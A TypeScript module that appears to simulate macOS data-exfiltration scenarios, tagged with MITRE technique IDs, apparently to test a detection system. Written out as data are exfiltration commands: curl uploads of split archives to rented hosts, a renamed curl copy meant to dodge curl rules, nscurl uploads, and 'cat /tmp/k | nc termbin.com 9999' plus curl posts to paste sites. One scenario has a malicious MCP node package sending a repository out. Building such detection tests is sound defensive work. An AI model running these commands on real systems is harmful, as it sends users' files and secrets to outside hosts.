import { inventWord } from '../invent.js';
import { MINUTE, SECOND } from '../machine.js';
import {
  adHoc,
  BREW_NODE,
  BREW_PYTHON,
  copiedTo,
  CURL,
  NC,
  NSCURL,
  NSURLSESSIOND,
  OSASCRIPT,
  SH,
  SPLIT,
  unsigned,
  VSCODE_HELPER,
} from '../fleet/programs.js';
import type { Attack } from './scenario.js';
import type { Stage } from './stage.js';

function attack(scenario: Omit<Attack, 'kind'>): Attack {
  return { kind: 'attack', ...scenario };
}

/** A program somebody just opened from a disk image or the downloads folder. */
function lure(stage: Stage, path: string): ReturnType<Stage['exec']> {
  const program = stage.random.chance(0.5)
    ? adHoc(path, `${inventWord(stage.random)}-${stage.random.hex(32)}`, stage.random.hex(8))
    : unsigned(path);
  return stage.exec(program, { until: stage.start + 4 * MINUTE });
}

/** Uploads by scripts and by programs that come with the system. */
export const SCRIPT_UPLOADS: readonly Attack[] = [
  attack({
    id: 'A24',
    title: 'Fixed-size chunks over many connections',
    difficulty: 'must',
    techniques: ['T1030', 'T1048.003'],
    uses: ['curl'],
    presence: 'any',
    campaign: 21_600,
    play: (stage) => {
      const script = `/private/tmp/.${inventWord(stage.random)}.sh`;
      const sh = stage.exec(SH, { args: ['sh', script], script });
      const to = stage.rented(443);
      const size = stage.around(5e6);
      const count = Math.round(stage.around(400, 1.6));
      stage.exec(SPLIT, {
        args: ['split', '-b', `${Math.round(size)}`, '/private/tmp/a.tar', '/private/tmp/c.'],
        parent: sh,
        until: stage.start + 20 * SECOND,
      });
      stage.send({
        from: (index, at) =>
          stage.exec(CURL, {
            at: at - 60,
            until: at + SECOND,
            args: ['curl', '-s', '-T', `/private/tmp/c.${index}`, `https://${to.name}/`],
            parent: sh,
          }),
        to,
        connections: count,
        seconds: 4,
        out: size * count,
        in: 5000 * count,
        campaign: count * stage.around(49),
        jitter: 0.05,
        sizes: 'fixed',
      });
    },
  }),
  attack({
    id: 'A30',
    title: 'Upload that evades rules about curl',
    difficulty: 'must',
    techniques: ['T1048.003', 'T1036.005'],
    uses: ['curl', 'nscurl'],
    presence: 'any',
    campaign: 20,
    play: (stage) => {
      const to = stage.rented(443);
      const url = `https://${to.name}/in`;
      const moved = copiedTo(CURL, `/private/tmp/${stage.random.pick(['x', 'updatecheck', 'helper'])}`);
      const name = inventWord(stage.random);
      const [program, args] = stage.random.pick([
        [moved, [moved.executable, '-T', 'a.bin', url]],
        [CURL, ['curl', '-K', '/private/tmp/.c']],
        [CURL, ['curl', '--data-binary', '@-', url]],
        [CURL, ['curl', '-H', 'Authorization: x', '-F', 'f=@/private/tmp/a.bin', url]],
        [CURL, ['curl', '--form', 'f=@/private/tmp/notes.bin', url]],
        [NSCURL, ['nscurl', '--upload', '/private/tmp/a.bin', url]],
        [adHoc(`/private/tmp/${name}`, name, name), [`/private/tmp/${name}`]],
      ] as const);
      const sh = stage.exec(SH, { args: ['sh', '-c', args.join(' ')], until: stage.start + 60 * SECOND });
      const sender = stage.exec(program, {
        args: [...args],
        parent: sh,
        at: stage.start + SECOND,
        until: stage.start + 2 * SECOND,
      });
      stage.connect(sender, {
        at: sender.start + 80,
        seconds: stage.around(20),
        out: stage.around(60e6),
        in: 5000,
        to,
      });
    },
  }),
  attack({
    id: 'A31',
    title: 'Script interpreter that uploads by itself',
    difficulty: 'must',
    techniques: ['T1041', 'T1059.002'],
    uses: ['osascript', 'python'],
    presence: 'any',
    campaign: 60,
    play: (stage) => {
      const script = `${stage.home}/Library/Application Support/.${inventWord(stage.random)}.js`;
      const sender = stage.random.chance(0.7)
        ? stage.exec(OSASCRIPT, {
            args: ['/usr/bin/osascript', '-l', 'JavaScript', script],
            script,
            until: stage.start + MINUTE,
          })
        : stage.exec(BREW_PYTHON, {
            args: ['python3', script.replace('.js', '.py')],
            script: script.replace('.js', '.py'),
            until: stage.start + MINUTE,
          });
      stage.connect(sender, {
        at: stage.start + 3 * SECOND,
        seconds: stage.around(60),
        out: stage.around(150e6),
        in: 20e3,
        to: stage.rented(443),
      });
    },
  }),
  attack({
    id: 'A32',
    title: 'Background transfer: the system daemon sends',
    difficulty: 'hard',
    techniques: ['T1041', 'T1029'],
    uses: ['nsurlsessiond'],
    presence: 'any',
    campaign: 86_400,
    play: (stage) => {
      lure(
        stage,
        `${stage.home}/Applications/${inventWord(stage.random)}.app/Contents/MacOS/${inventWord(stage.random)}`,
      );
      const daemon = stage.through(['nsurlsessiond'], NSURLSESSIOND);
      stage.send({
        from: daemon,
        to: stage.rented(443),
        connections: 5,
        seconds: 900,
        out: stage.around(500e6),
        in: 1e6,
        campaign: stage.around(86_400),
        transport: stage.random.pick(['tcp', 'quic']),
      });
    },
  }),
  attack({
    id: 'A50',
    title: 'Dead drop on a text site',
    difficulty: 'should',
    techniques: ['T1567.003'],
    uses: ['nc', 'curl'],
    presence: 'any',
    campaign: 60,
    play: (stage) => {
      const sh = stage.exec(SH, {
        args: ['sh', '-c', 'cat /tmp/k | nc termbin.com 9999'],
        until: stage.start + 60 * SECOND,
      });
      const byNetcat = stage.random.chance(0.5);
      const site = byNetcat ? 'termbin.com' : stage.random.pick(['pastebin.com', 'paste.ee', 'rentry.co']);
      stage.send({
        from: (_, at) =>
          stage.exec(byNetcat ? NC : CURL, {
            at: at - 50,
            until: at + SECOND,
            args: byNetcat ? ['nc', site, '9999'] : ['curl', '-F', 'c=@/tmp/k', `https://${site}/api`],
            parent: sh,
          }),
        to: stage.named(site, byNetcat ? 9999 : 443),
        connections: 3,
        seconds: 2,
        out: stage.around(400e3),
        in: 2000,
        campaign: 60,
      });
    },
  }),
  attack({
    id: 'A61',
    title: 'Terminal assistant posts a repository to an unknown host',
    difficulty: 'should',
    techniques: ['T1567'],
    uses: ['node'],
    presence: 'active',
    campaign: 10_800,
    roles: ['developer', 'scientist'],
    play: (stage) => {
      const script = `/opt/homebrew/lib/node_modules/${inventWord(stage.random)}-mcp/dist/cli.js`;
      const editor = stage.existing('vscode-helper') ?? stage.exec(VSCODE_HELPER);
      const node = stage.exec(BREW_NODE, {
        args: ['node', script],
        script,
        parent: editor,
        responsible: editor,
        until: stage.start + 60 * MINUTE,
      });
      stage.send({
        from: node,
        to: stage.rented(443, 'mcp'),
        connections: stage.around(400),
        seconds: 30,
        out: stage.around(900e6),
        in: stage.around(120e6),
        campaign: stage.around(10_800),
      });
    },
  }),
];
